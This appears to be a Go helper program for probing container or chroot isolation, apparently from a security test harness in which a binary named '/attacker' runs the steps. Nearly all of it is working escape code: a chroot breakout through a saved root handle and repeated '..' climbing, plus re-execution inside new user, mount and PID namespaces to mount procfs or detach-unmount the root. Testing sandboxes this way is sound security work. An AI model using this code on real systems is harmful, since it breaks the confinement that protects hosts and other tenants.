package main

import (
	"fmt"
	"os"
	"os/exec"
	"syscall"

	"golang.org/x/sys/unix"
)

// chrootOut goes up from a directory that lies outside of its own root, and lists where it
// gets to.
func chrootOut(dir string) error {
	above, err := unix.Open("/", unix.O_PATH|unix.O_DIRECTORY, 0)
	if err == nil {
		err = unix.Chroot(dir)
	}
	if err == nil {
		err = unix.Fchdir(above)
	}
	for i := 0; i < 50 && err == nil; i++ {
		err = unix.Chdir("..")
	}
	if err == nil {
		err = unix.Chroot(".")
	}
	entries, _ := os.ReadDir("/")
	for _, e := range entries {
		fmt.Println(e.Name())
	}
	return err
}

// newProc mounts a procfs on dir, as root of new user, mount and PID namespaces.
func newProc(dir string) error { return nested("mount-proc", dir) }

// peel unmounts the root in a mount namespace of its own, below which another may lie.
func peel(dir string) error { return nested("unmount", dir) }

// nested does what with dir, as root of new user, mount and PID namespaces.
func nested(what, dir string) error {
	cmd := exec.Command("/attacker", what, dir)
	own := []syscall.SysProcIDMap{{HostID: os.Getuid(), Size: 1}}
	cmd.SysProcAttr = &syscall.SysProcAttr{
		Cloneflags:  unix.CLONE_NEWUSER | unix.CLONE_NEWNS | unix.CLONE_NEWPID,
		UidMappings: own, GidMappings: own,
	}
	cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
	return cmd.Run()
}

// unmount tells what the kernel says to it.
func unmount(dir string) error {
	fmt.Println("unmount:", unix.Unmount(dir, unix.MNT_DETACH))
	return nil
}

// mountProc tells what the kernel says to it.
func mountProc(dir string) error {
	fmt.Println("mount:", unix.Mount("proc", dir, "proc", 0, ""))
	return nil
}

// leave does one of these.
func leave(what func(string) error, dir string) {
	if err := what(dir); err != nil {
		fmt.Println(err)
		os.Exit(1)
	}
}
